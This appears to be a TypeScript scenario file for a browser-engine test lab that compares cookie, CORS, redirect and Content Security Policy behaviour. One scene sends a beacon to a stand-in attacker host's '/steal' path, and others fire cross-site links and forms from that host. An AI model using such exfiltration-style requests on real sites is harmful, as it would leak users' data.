/** What a person does in the lab of the browser's tests. Nobody says what must come of it: the engines are compared. */
import type { BrowserAction } from '../../../src/sandbox/index.ts';
import type { Scenario, Scene } from './browser-scenario.ts';
import { webHosts, webLabFiles } from './web-lab.ts';

const APP = 'https://app.tally.example:8443';
const API = 'https://api.tally.example:8443';
const MALLORY = 'https://mallory.example:8443';

const scene = (title: string, does: Scene['does'], until?: string): Scene => ({
  title,
  does,
  prints: [],
  until,
});
const open = (title: string, url: string, until?: string) => scene(title, { open: url }, until);
const run = (title: string, script: string): Scene =>
  open(
    title,
    `${APP}/run?script=${encodeURIComponent(`(async () => { ${script} console.log('done') })()`)}`,
    'console: done',
  );
const press = (title: string, text: string, until?: string) => scene(title, { press: text }, until);

const fill = (fields: Record<string, string>, button: string): BrowserAction => ({
  fill: fields,
  press: button,
});
const tell = `const tell = async (path, options) => {
    try {
      const response = await fetch(path.startsWith('/') ? path : '${API}/' + path, options);
      const { type, status, redirected } = response;
      console.log(path, type, status, redirected, response.url, await response.text(), response.headers.get('x-shown'), response.headers.get('x-secret'));
    } catch (error) { console.log(path, String(error)); }
  };`;

const POLICIES = [
  "script-src 'self'",
  "script-src 'nonce-n1'",
  "default-src 'none'",
  "script-src 'unsafe-inline'",
  "script-src 'self' 'unsafe-inline'",
  "script-src 'unsafe-inline'; script-src-attr 'none'",
];

export function webVisits(): Scenario {
  const servers = ['app', 'api', 'mallory'].map(
    (name) => `${name}.${name === 'mallory' ? '' : 'tally.'}example`,
  );
  return {
    hosts: webHosts,
    files: webLabFiles(),
    servers: servers.map((host) => ({ host, args: ['server.js', host] })),
    browser: { name: 'ana', host: 'ana.example', trusts: 'trusted.pem' },
    scenes: [
      open('a redirect to the login', `${APP}/`),
      scene('a login', fill({ User: 'ana', Password: 'correct horse' }, 'Log in')),
      press('a link with cookies of its path', 'Notes'),
      open('cookies that are sent, and that scripts see', `${APP}/cookies`, 'console: now'),
      open('a fetch of another site', `${MALLORY}/link`, 'request:'),
      press('a link of another site', 'Win', 'console: now'),
      open('once more', `${MALLORY}/link`, 'request:'),
      press('a form of another site', 'Post'),
      ...[301, 302, 303, 307, 308].flatMap((status) => [
        open(`a form, for ${status}`, `${APP}/redirecting?status=${status}`),
        scene(`a redirect by ${status}`, fill({ Word: 'tie & knot' }, 'Send')),
      ]),
      open('styles, scripts and images', `${APP}/parts`, 'console: image'),
      run(
        'CORS',
        `${tell}
        await tell('/token');
        await tell('closed');
        await tell('closed', { mode: 'no-cors' });
        await tell('open');
        await tell('open', { credentials: 'include' });
        await tell('personal', { credentials: 'include' });
        await tell('guarded', { method: 'PUT', headers: { 'x-asked': '1' } });
        await tell('guarded', { method: 'DELETE' });
        await tell('away');
        await tell('/moved?status=302');
        await tell('/echo', { method: 'POST', body: new URLSearchParams({ a: 'b c' }) });
        await tell('/token', { credentials: 'omit' });
        await tell('/moved?status=302', { redirect: 'error' });
        await tell('/moved?status=302', { redirect: 'manual' });`,
      ),
      run(
        'an XMLHttpRequest',
        `await new Promise((done) => { const x = new XMLHttpRequest(); x.open('POST', '/echo'); x.setRequestHeader('X-A', '1');
          x.onload = () => { console.log(x.status, x.responseText.includes('POST hi'), x.getResponseHeader('content-type')); done() }; x.send('hi') });`,
      ),
      run('no service of another site', `navigator.sendBeacon('${MALLORY}/steal', 'by beacon');`),
      run(
        'storage',
        `localStorage.setItem('a', '1'); localStorage.b = 2; delete localStorage.a; console.log(Object.keys(localStorage), localStorage.b, localStorage.length);`,
      ),
      run(
        'where it is',
        `console.log(location.href, location.origin, document.URL, document.referrer, document.domain, origin, isSecureContext);`,
      ),
      run(
        // What they cannot have overwritten, the pane's frame is told a moment later. A cookie that is read has been set:
        // Chromium sets it while the script goes on, and a request may be quicker.
        'cookies of scripts',
        `document.cookie = 'own=1; Secure'; void document.cookie; document.cookie = 'hidden=1; HttpOnly'; document.cookie = 'session=mine; Path=/'; await fetch('/token'); console.log(document.cookie);`,
      ),
      ...POLICIES.map((policy) => open(policy, `${APP}/strict?policy=${encodeURIComponent(policy)}`)),
      open('plain text', `${APP}/plain`),
      open('nothing there', `${APP}/nowhere`),
    ],
  };
}
